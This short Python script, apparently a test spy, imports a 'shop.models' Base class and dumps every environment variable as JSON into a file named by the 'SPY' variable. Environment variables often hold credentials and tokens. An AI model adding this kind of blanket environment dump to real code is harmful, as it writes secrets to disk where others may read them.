import json
import os

from shop.models import Base

with open(os.environ["SPY"], "w") as file:
    json.dump(dict(os.environ), file)
